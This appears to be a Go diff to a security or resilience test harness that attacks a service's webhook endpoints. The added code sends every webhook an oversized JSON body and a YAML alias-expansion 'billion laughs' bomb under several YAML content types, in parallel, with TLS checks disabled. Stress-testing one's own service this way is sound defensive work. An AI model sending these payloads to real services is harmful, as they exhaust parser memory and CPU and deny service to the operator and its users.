@@ -15,13 +15,17 @@ import (
 var trusting = &http.Client{Timeout: time.Minute, Transport: &http.Transport{
 	TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, MaxIdleConnsPerHost: 100}} // as any stranger
 
-// post sends a body to a webhook. What comes back is the attacker's.
+// post sends a body to a webhook as JSON. What comes back is the attacker's.
 func (s *site) post(ctx context.Context, path, body string) (status int, err error) {
+	return s.postAs(ctx, "application/json", path, body)
+}
+
+func (s *site) postAs(ctx context.Context, contentType, path, body string) (status int, err error) {
 	request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+s.webhooks+path, strings.NewReader(body))
 	if err != nil {
 		return 0, err
 	}
-	request.Header.Set("Content-Type", "application/json")
+	request.Header.Set("Content-Type", contentType)
 	answer, err := trusting.Do(request)
 	if err != nil {
 		return 0, err
@@ -84,6 +88,33 @@ func (s *site) bodies() func(context.Context) {
 			send(context.WithoutCancel(ctx)) // each, also when the neighbours are served
 		}
 	}
+}
+
+// bodiesAsYAML sends what a decoder of YAML would make large, to all webhooks.
+func (s *site) bodiesAsYAML(ctx context.Context) {
+	for _, body := range []string{
+		filled(2900<<10, `{"name":""}`), // JSON is YAML, and each element is some hundred bytes of nodes
+		aliases(),
+	} {
+		var all sync.WaitGroup
+		for _, path := range paths {
+			for _, contentType := range []string{"application/yaml", "text/yaml", "application/x-yaml", "application/json+yaml"} {
+				all.Go(func() { _, _ = s.postAs(context.WithoutCancel(ctx), contentType, path, body) })
+			}
+		}
+		all.Wait()
+	}
+}
+
+// aliases is a small YAML that names ten times what names ten times a string, and so on.
+func aliases() string {
+	var text strings.Builder
+	text.WriteString("a0: &a0 " + strings.Repeat("x", 1000) + "\n")
+	for i := 1; i < 9; i++ {
+		before := fmt.Sprintf("*a%d,", i-1)
+		fmt.Fprintf(&text, "a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(before, 10), ","))
+	}
+	return text.String()
 }
 
 // connections holds more than the operator takes, from many addresses: some say nothing,
